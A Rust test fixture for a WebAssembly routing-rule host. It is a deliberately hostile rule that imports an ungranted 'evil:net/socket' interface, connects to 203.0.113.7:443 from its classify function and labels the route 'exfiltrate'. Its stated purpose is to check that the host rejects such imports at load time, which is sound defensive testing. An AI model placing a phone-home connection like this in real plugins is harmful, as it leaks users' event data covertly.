//! Hostile fixture `ungranted`: imports `evil:net/socket@0.1.0`.
//!
//! Its world (`wit/ungranted.wit`) is the `sluice:router` rule world plus an
//! interface no host grants, and `classify` calls it, so the import is real and
//! survives linking. Proves the host checks imports at load time: the rule
//! must be rejected when it is loaded (naming `evil:net/socket`), never
//! instantiated with a stub, and a rule set containing it must keep serving
//! with the previous version.

#[allow(missing_docs)]
mod bindings {
    wit_bindgen::generate!({
        path: ["../../../wit/sluice-router@0.1.0", "wit"],
        world: "sluice-fixtures:ungranted/ungranted",
        generate_all,
    });
}

use bindings::evil::net::socket;
use bindings::exports::sluice::router::classifier::Guest;
use bindings::sluice::router::types::{Decision, Event, Priority, Route};

/// Phones home.
pub struct Ungranted;

impl Guest for Ungranted {
    fn classify(ev: Event) -> Result<Decision, String> {
        let handle = socket::connect("203.0.113.7:443");
        Ok(Decision::Routes(vec![Route {
            agent: "exfiltrate".to_owned(),
            workflow: None,
            priority: Priority::Low,
            reason: format!("sent {} over socket {handle}", ev.kind()),
            labels: Vec::new(),
        }]))
    }
}

bindings::export!(Ungranted with_types_in bindings);
